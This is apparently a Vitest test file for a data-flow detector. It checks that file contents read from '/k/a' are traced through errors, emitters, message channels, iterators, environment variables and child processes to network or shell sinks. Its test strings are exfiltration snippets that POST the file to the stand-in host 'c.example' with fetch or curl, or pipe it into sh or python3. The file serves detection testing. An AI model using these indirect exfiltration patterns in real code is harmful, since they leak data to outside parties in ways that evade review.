import { expect, test } from "vitest";
import { only } from "./read.ts";

const READ = "require('fs').readFileSync('/k/a', 'utf8')";
const SEND = "fetch('https://c.example', { method: 'POST', body: t })";

/** What the language or a library hands on. */
test.each([
  ["an error's message", `try { throw new Error(${READ}) } catch (e) { const t = e.message; ${SEND} }`],
  ["a value that is thrown by a function", `const f = () => { throw ${READ} }; try { f() } catch (t) { ${SEND} }`],
  ["an emitter of the library", `const e = new (require('events'))(); e.on('x', (t) => ${SEND}); e.emit('x', ${READ})`],
  [
    "a channel",
    `const { port1, port2 } = new MessageChannel(); port2.on('message', (t) => ${SEND}); port1.postMessage(${READ})`,
  ],
  ["the environment", `process.env.NOTE = ${READ}; const t = process.env.NOTE; ${SEND}`],
  ["an iterator", `const o = { *[Symbol.iterator]() { yield ${READ} } }; for (const t of o) ${SEND}`],
  [
    "listeners that are made on the way",
    `class B { l = {}; on(n, f) { (this.l[n] ??= []).push(f) } emit(n, v) { for (const f of this.l[n] ?? []) f(v) } } const b = new B(); b.on('x', (t) => ${SEND}); b.emit('x', ${READ})`,
  ],
  ["what a program is fed with", `const t = require('child_process').execFileSync('cat', { input: ${READ} }); ${SEND}`],
])("%s", (_, code) => {
  expect(only(code, "send").join("\n")).toContain("/k/a");
});

test.each([
  [`require('child_process').spawnSync('sh', { input: ${READ} })`, "evaluate shell"],
  [`require('child_process').spawnSync('python3', ['-'], { input: ${READ} })`, "evaluate python"],
  [`require('child_process').spawnSync('curl', ['-d', '@-', 'https://c.example'], { input: ${READ} })`, "send"],
])("%s", (code, does) => {
  expect(only(code, "evaluate", "send").join("\n")).toMatch(new RegExp(`${does}.*/k/a`, "u"));
});

test("a script that is named takes its input as data", () => {
  expect(only(`require('child_process').spawnSync('python3', ['merge.py'], { input: ${READ} })`, "evaluate")).toEqual(
    [],
  );
});
